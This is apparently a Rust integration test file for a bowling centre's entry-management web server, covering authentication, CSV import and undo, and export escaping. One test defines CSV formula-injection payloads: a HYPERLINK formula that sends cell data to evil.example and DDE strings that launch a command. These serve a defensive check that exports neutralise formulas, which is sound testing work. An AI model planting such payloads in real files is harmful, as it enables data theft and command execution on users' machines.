//! The centre's entries from its page's API (docs/programme.md, "Entries
//! on the centre's page") and its named logins (docs/centre.md): a real
//! `lanecall centre` process, its broker out of reach (nothing here needs
//! a lane).

mod support;

use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use support::centre::Centre;
use support::free_port;

const SHARED_PIN: &str = "246810";
const SECRETARY_PIN: &str = "135792";
const SECRETARY: &str = "Pavel Sokolov";

fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("lanecall-entries-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// A centre config with the example programme, the shared PIN and one
/// secretary with a PIN of their own.
fn config(dir: &Path, web: u16) -> PathBuf {
    let programme = dir.join("programme.toml");
    std::fs::copy("tests/programme/example.toml", &programme).unwrap();
    let shared = lanecall::web::hash_pin(SHARED_PIN).unwrap();
    let own = lanecall::web::hash_pin(SECRETARY_PIN).unwrap();
    let text = format!(
        "site = \"cup\"\nstate_dir = {:?}\nbroker = \"mqtt://127.0.0.1:{}\"\nprogramme = {programme:?}\n\
         [web]\nlisten = \"127.0.0.1:{web}\"\njudge_pin_hash = {shared:?}\n\
         [[web.judges]]\nname = {SECRETARY:?}\npin_hash = {own:?}\n",
        dir.join("state"),
        free_port(),
    );
    let path = dir.join("centre.toml");
    std::fs::write(&path, text).unwrap();
    path
}

fn entry<'v>(entries: &'v Value, name: &str) -> Option<&'v Value> {
    entries["entries"]
        .as_array()?
        .iter()
        .find(|e| e["name"] == name)
}

#[test]
fn a_change_needs_a_login_and_survives_a_restart() {
    let dir = temp_dir("restart");
    let web = free_port();
    let path = config(&dir, web);
    let mut c = Centre::start(&path, web);
    assert_eq!(
        c.get("/api/entries")["entries"].as_array().unwrap().len(),
        6
    );
    let guest = json!({ "entry": { "name": "Nina Guseva", "class": "B3", "sex": "F", "region": "Tver", "handicap": 4 } });
    let (status, v) = c.post(None, "/api/entries/add", &guest);
    assert_eq!(status, 401, "{v}");
    let (status, _) = c.post_as(
        Some("lanecall_session=forged"),
        "/api/entries/import",
        "text/csv",
        "name,class,sex,region\n".as_bytes(),
    );
    assert_eq!(status, 401);
    assert!(entry(&c.get("/api/entries"), "Nina Guseva").is_none());

    let (cookie, name) = c.login(SECRETARY_PIN, "typed name");
    assert_eq!(name, SECRETARY, "a judge's own PIN names them");
    let (status, v) = c.post(Some(&cookie), "/api/entries/add", &guest);
    assert_eq!(status, 200, "{v}");
    let bad = json!({ "entry": { "name": "Bad", "class": "B4", "sex": "F", "region": "X", "handicap": 301 } });
    let (status, v) = c.post(Some(&cookie), "/api/entries/add", &bad);
    assert_eq!(status, 400);
    assert_eq!(v["problems"][0]["field"], "class", "{v}");
    c.stop();

    let mut c = Centre::start(&path, web);
    let v = c.get("/api/entries");
    assert_eq!(entry(&v, "Nina Guseva").unwrap()["handicap"], 4, "{v}");
    assert_eq!(v["changes"][0]["by"], SECRETARY, "{v}");
    assert_eq!(v["changes"][0]["change"], "add");
    let csv = c.http.request("GET", "/entries.csv", &[], b"").unwrap();
    let csv = String::from_utf8(csv.body).unwrap();
    assert!(csv.contains("\r\nNina Guseva,B3,F,Tver,,4,\r\n"), "{csv}");
}

#[test]
fn a_withdrawn_bowler_is_not_sent_and_pushes_carry_the_judges_name() {
    let dir = temp_dir("withdrawn");
    let web = free_port();
    let mut c = Centre::start(&config(&dir, web), web);
    // The shared PIN: the name typed is the one recorded.
    let (cookie, name) = c.login(SHARED_PIN, "Irina Orlova");
    assert_eq!(name, "Irina Orlova");
    for bowler in ["Sergei Volkov", "Yulia Frolova"] {
        let body = json!({ "name": bowler, "withdrawn": true });
        let (status, v) = c.post(Some(&cookie), "/api/entries/withdraw", &body);
        assert_eq!(status, 200, "{v}");
    }
    let v = c.get("/api/entries");
    assert_eq!(entry(&v, "Yulia Frolova").unwrap()["withdrawn"], true);
    assert_eq!(v["changes"][0]["by"], "Irina Orlova");
    // In use by block S1: withdrawn, never deleted.
    let (status, v) = c.post(
        Some(&cookie),
        "/api/entries/delete",
        &json!({ "name": "Yulia Frolova" }),
    );
    assert_eq!(status, 409, "{v}");
    assert!(entry(&c.get("/api/entries"), "Yulia Frolova").is_some());

    let (status, v) = c.post(Some(&cookie), "/api/push", &json!({ "block": "S1" }));
    assert_eq!(status, 200, "{v}");
    let pushes = c.get("/api/pushes");
    let lanes: Vec<&String> = pushes[0]["lanes"].as_object().unwrap().keys().collect();
    assert_eq!(
        lanes,
        ["1", "2"],
        "lane 3 has only withdrawn bowlers: {pushes}"
    );
    assert_eq!(pushes[0]["by"], "Irina Orlova");
    // Typed by hand: refused too.
    let by_hand =
        json!({ "block": "X", "lanes": { "9": [{ "name": "Sergei Volkov", "class": "B2" }] } });
    let (status, v) = c.post(Some(&cookie), "/api/push", &by_hand);
    assert_eq!(status, 400, "{v}");
    assert!(v["error"].as_str().unwrap().contains("withdrawn"), "{v}");

    let (own, _) = c.login(SECRETARY_PIN, "");
    let hold = json!({ "lane": 1, "on": true, "reason": "ball return" });
    assert_eq!(c.post(Some(&own), "/api/hold", &hold).0, 200);
    assert_eq!(c.get("/api/pushes")[0]["by"], SECRETARY);
}

#[test]
fn an_import_with_an_error_changes_nothing_and_a_good_one_replaces_the_entries() {
    let dir = temp_dir("import");
    let web = free_port();
    let mut c = Centre::start(&config(&dir, web), web);
    let (cookie, _) = c.login(SECRETARY_PIN, "");
    let before = c.get("/api/entries");
    let csv = c
        .http
        .request("GET", "/entries.csv", &[], b"")
        .unwrap()
        .body;
    let csv = String::from_utf8(csv).unwrap();
    let bad = csv.clone() + "Nina Guseva,B3,F,Tver,,,\r\nBad Row,B3,Q,Tver,,,\r\n";
    let (status, v) = c.post_as(
        Some(&cookie),
        "/api/entries/import",
        "text/csv",
        bad.as_bytes(),
    );
    assert_eq!(status, 400, "{v}");
    assert_eq!(v["problems"][0]["row"], 9, "{v}");
    assert_eq!(v["problems"][0]["column"], 3, "{v}");
    assert_eq!(c.get("/api/entries")["entries"], before["entries"]);

    // As a spreadsheet saves it: semicolons, every existing bowler and one more.
    let good = csv.replace(',', ";") + "Nina Guseva;B3;F;Tver;;;\r\n";
    let (status, v) = c.post_as(
        Some(&cookie),
        "/api/entries/import",
        "text/csv",
        good.as_bytes(),
    );
    assert_eq!(status, 200, "{v}");
    let after = c.get("/api/entries");
    assert_eq!(after["entries"].as_array().unwrap().len(), 7);
    assert_eq!(after["changes"][0]["change"], "import");
    assert_eq!(after["changes"][0]["added"], json!(["Nina Guseva"]));
    assert_eq!(after["changes"][0]["by"], SECRETARY);
}

/// A secretary's file: a byte order mark, semicolons, Russian headers,
/// Cyrillic `В2`, `М`, `м`; one bowler changed, one new.
const RUSSIAN_CSV: &str = "\u{FEFF}Фамилия Имя; Класс ;Пол;Регион;Команда;Гандикап\r\n\
                           Sergei Volkov;В2;М;Tula;;10\r\n\
                           Пётр Седов;В3;м;Тверь;;\r\n";

fn names(v: &Value) -> Vec<String> {
    v["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["name"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn an_import_says_what_it_would_do_adds_to_the_list_and_is_undone() {
    let dir = temp_dir("preview");
    let web = free_port();
    let path = config(&dir, web);
    let mut c = Centre::start(&path, web);
    let (cookie, _) = c.login(SECRETARY_PIN, "");
    let nina =
        json!({ "entry": { "name": "Nina Guseva", "class": "B3", "sex": "F", "region": "Tver" } });
    let (status, v) = c.post(Some(&cookie), "/api/entries/add", &nina);
    assert_eq!(status, 200, "{v}");
    let before = c.get("/api/entries");
    assert_eq!(before["undo_import"], false, "{before}");
    let import = |c: &mut Centre, query: &str, body: &str| {
        let path = format!("/api/entries/import{query}");
        c.post_as(Some(&cookie), &path, "text/csv", body.as_bytes())
    };

    // What "add to the list" would do, by name; nothing done.
    let (status, v) = import(&mut c, "?mode=add&dry_run=1", RUSSIAN_CSV);
    assert_eq!(status, 200, "{v}");
    assert_eq!(v["added"], json!(["Пётр Седов"]), "{v}");
    assert_eq!(v["changed"], json!(["Sergei Volkov"]), "{v}");
    assert_eq!(v["removed"], json!([]), "{v}");
    assert_eq!(v["entries"], 8, "{v}");
    assert_eq!(c.get("/api/entries")["entries"], before["entries"]);

    // Replacing the list with it would leave out bowlers on a block's
    // lanes: the preview says so as the import would.
    let (status, v) = import(&mut c, "?mode=replace&dry_run=1", RUSSIAN_CSV);
    assert_eq!(status, 409, "{v}");
    assert!(
        v["error"].as_str().unwrap().contains("cannot be left out"),
        "{v}"
    );
    assert_eq!(c.get("/api/entries")["entries"], before["entries"]);
    let (status, v) = import(&mut c, "?mode=merge", RUSSIAN_CSV);
    assert_eq!(status, 400, "{v}");

    // Added: the bowler added by hand stays.
    let (status, v) = import(&mut c, "?mode=add", RUSSIAN_CSV);
    assert_eq!(status, 200, "{v}");
    assert_eq!(v["undo_import"], true, "{v}");
    assert_eq!(v["changes"][0]["mode"], "add", "{v}");
    assert_eq!(v["changes"][0]["changed"], json!(["Sergei Volkov"]), "{v}");
    let mut expected = names(&before);
    expected.push("Пётр Седов".into());
    assert_eq!(names(&v), expected);
    let petr = entry(&v, "Пётр Седов").unwrap();
    assert_eq!((&petr["class"], &petr["sex"]), (&json!("B3"), &json!("M")));
    assert_eq!(entry(&v, "Sergei Volkov").unwrap()["handicap"], 10);

    // Undone, after a restart: the list as it was, once.
    c.stop();
    let mut c = Centre::start(&path, web);
    let (cookie, _) = c.login(SECRETARY_PIN, "");
    assert_eq!(c.get("/api/entries")["undo_import"], true);
    let undo = |c: &mut Centre| {
        c.post_as(
            Some(&cookie),
            "/api/entries/import?undo=1",
            "application/json",
            b"{}",
        )
    };
    let (status, v) = undo(&mut c);
    assert_eq!(status, 200, "{v}");
    assert_eq!(v["entries"], before["entries"], "{v}");
    assert_eq!(v["undo_import"], false, "{v}");
    assert_eq!(v["changes"][0]["change"], "undo_import", "{v}");
    assert_eq!(v["changes"][0]["removed"], json!(["Пётр Седов"]), "{v}");
    let (status, v) = undo(&mut c);
    assert_eq!(status, 409, "{v}");
    assert!(
        v["error"].as_str().unwrap().contains("no import to undo"),
        "{v}"
    );
}

#[test]
fn an_import_lists_every_problem_at_once_and_requires_its_columns() {
    let dir = temp_dir("problems");
    let web = free_port();
    let mut c = Centre::start(&config(&dir, web), web);
    let (cookie, _) = c.login(SECRETARY_PIN, "");
    let mut import = |body: &str| {
        c.post_as(
            Some(&cookie),
            "/api/entries/import?mode=add",
            "text/csv",
            body.as_bytes(),
        )
    };
    let (status, v) = import("Имя;Пол;Регион\nПётр Седов;М;Тверь\n");
    assert_eq!(status, 400, "{v}");
    assert_eq!(
        v["error"], "row 1, class: there is no column \"class\"",
        "{v}"
    );
    let (status, v) = import(
        "Фамилия Имя;Класс;Пол;Регион\n\
         Пётр Седов;В4;М;Тверь\n\
         Олег Белов;В3;М;\n\
         Пётр Седов;В3;М;Тверь\n",
    );
    assert_eq!(status, 400, "{v}");
    let lines: Vec<&str> = v["error"].as_str().unwrap().lines().collect();
    assert_eq!(
        lines,
        [
            "row 2, column 2 (class): \"В4\" is not a class: B1, B2 or B3",
            "row 3, column 4 (region): the region is empty: write the bowler's region",
            "row 4, column 1 (name): \"Пётр Седов\" is entered twice: on row 2 too",
        ],
        "{v}"
    );
}

/// `tests/browser/entries.mjs` in headless Chromium, as tests/centre.rs
/// runs the page's other script: skipped when node, chromium or `npm ci`
/// in tests/browser are missing, except under CI.
#[test]
fn entries_are_imported_and_edited_on_the_page_in_a_real_browser() {
    if !support::browser_tools() {
        return;
    }
    let dir = temp_dir("browser");
    let web = free_port();
    let mut c = Centre::start(&config(&dir, web), web);
    support::run_browser("entries.mjs", web, SECRETARY_PIN);
    // What the page did is on the centre's disk.
    let kept = std::fs::read_to_string(dir.join("state/entries.toml")).unwrap();
    assert!(kept.contains("name = \"Nina Guseva\""), "{kept}");
    assert!(kept.contains("handicap = 15"), "{kept}");
    assert!(!kept.contains("Пётр Седов"), "the import undone: {kept}");
    assert_eq!(
        entry(&c.get("/api/entries"), "Nina Guseva").unwrap()["handicap"],
        15
    );
}

/// Splits CSV text (RFC 4180, commas, CRLF lines, a byte order mark
/// first or not) into rows of values, unquoted.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{FEFF}').unwrap_or(text);
    let (mut rows, mut row, mut value) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                value.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => value.push(c),
            (false, '"') if value.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut value)),
            (false, '\r') => {
                assert_eq!(chars.next(), Some('\n'), "lines end in CRLF");
                row.push(std::mem::take(&mut value));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => value.push(c),
        }
    }
    assert!(value.is_empty() && row.is_empty(), "the last line ends too");
    rows
}

/// Whether a spreadsheet opening the file would take `value` for a
/// formula: it starts with `=`, `+`, `-`, `@`, a tab or a carriage return
/// and is not a plain number.
fn runs(value: &str) -> bool {
    let number = value.strip_prefix('-').unwrap_or(value);
    let number = !number.is_empty() && number.bytes().all(|b| b.is_ascii_digit());
    value
        .trim_start_matches(' ')
        .starts_with(['=', '+', '-', '@', '\t', '\r'])
        && !number
}

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Anna\")";
const DDE: &str = "+cmd|' /C calc'!A0";
const DDE_MINUS: &str = "-2+3+cmd|' /C calc'!A0";
const AT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

#[test]
fn the_centres_csv_files_hold_names_and_regions_as_data_not_formulas() {
    let dir = temp_dir("formulas");
    let web = free_port();
    let mut c = Centre::start(&config(&dir, web), web);
    let (cookie, _) = c.login(SECRETARY_PIN, "");
    for (name, region, team) in [(HYPERLINK, DDE, AT), (DDE_MINUS, "@Tula", "=1+1")] {
        let add = json!({ "entry": { "name": name, "class": "B2", "sex": "F", "region": region, "team": team } });
        let (status, v) = c.post(Some(&cookie), "/api/entries/add", &add);
        assert_eq!(status, 200, "{v}");
    }
    let before = c.get("/api/entries");
    assert_eq!(entry(&before, HYPERLINK).unwrap()["region"], DDE);

    // Both files, read with no login: no cell a spreadsheet would run.
    for path in ["/entries.csv", "/results.csv"] {
        let r = c.http.request("GET", path, &[], b"").unwrap();
        assert_eq!(r.status, 200, "{path}");
        let text = String::from_utf8(r.body).unwrap();
        let rows = csv_rows(&text);
        for row in &rows {
            for value in row {
                assert!(!runs(value), "{path}: {value:?} in {row:?}");
            }
        }
        for typed in [HYPERLINK, DDE, AT, DDE_MINUS, "@Tula", "=1+1"] {
            let marked = format!("'{typed}");
            assert!(
                rows.iter().any(|r| r.contains(&marked)),
                "{path} has {marked:?}: {text}"
            );
        }
    }
    let entries = c
        .http
        .request("GET", "/entries.csv", &[], b"")
        .unwrap()
        .body;
    let text = String::from_utf8(entries).unwrap();
    // The handicap, a number the centre writes, is still one.
    assert!(
        text.contains("\r\nSergei Volkov,B2,M,Tula,,8,\r\n"),
        "{text}"
    );

    // The file imported back: the same entries, as they were typed.
    let (status, v) = c.post_as(
        Some(&cookie),
        "/api/entries/import",
        "text/csv",
        text.as_bytes(),
    );
    assert_eq!(status, 200, "{v}");
    assert_eq!(c.get("/api/entries")["entries"], before["entries"]);
}

/// The peak of the process's resident memory in kB (`VmHWM`).
fn peak_kb(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|l| l.starts_with("VmHWM:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

#[test]
fn a_mebibyte_of_bad_rows_answers_the_first_hundred_problems_and_how_many_more() {
    let dir = temp_dir("all-bad");
    let web = free_port();
    let mut c = Centre::start(&config(&dir, web), web);
    let (cookie, _) = c.login(SECRETARY_PIN, "");
    let before = c.get("/api/entries");

    // A 1 MiB file whose every row has a wrong class and a wrong sex, and
    // after the first, a name entered twice.
    let head = "name,class,sex,region\r\n";
    let row = "Anna Kuznetsova,B9,Q,Moscow\r\n";
    let rows = ((1 << 20) - head.len()) / row.len();
    let file = head.to_owned() + &row.repeat(rows);
    let (status, v) = c.post_as(
        Some(&cookie),
        "/api/entries/import",
        "text/csv",
        file.as_bytes(),
    );
    assert_eq!(status, 400, "{}", v.to_string().len());
    let problems = v["problems"].as_array().unwrap();
    assert_eq!(problems.len(), 100);
    assert_eq!(v["more_problems"], 3 * rows - 1 - 100);
    assert_eq!(problems[0]["row"], 2);
    assert_eq!(problems[0]["column"], 2);
    assert_eq!(problems[99]["row"], 35);
    let said = v["error"].as_str().unwrap();
    assert!(
        said.ends_with(&format!(
            "… and {} more problems, not listed: mend these and import again",
            3 * rows - 1 - 100
        )),
        "{said}"
    );
    // Nothing already recorded is lost, and the centre's memory stays
    // small (it was 900 MB here, reading the same file).
    assert_eq!(c.get("/api/entries")["entries"], before["entries"]);
    let peak = peak_kb(c.child.id());
    assert!(peak < 150 * 1024, "the centre's peak: {peak} kB");

    // A file over 1 MiB: said, not read.
    let big = file + &row.repeat(100);
    let (status, v) = c.post_as(
        Some(&cookie),
        "/api/entries/import",
        "text/csv",
        big.as_bytes(),
    );
    assert_eq!(status, 400, "{v}");
    assert_eq!(
        v["error"],
        format!("the file is {} bytes: at most 1048576 (1 MiB)", big.len())
    );
    assert_eq!(c.get("/api/entries")["entries"], before["entries"]);
}
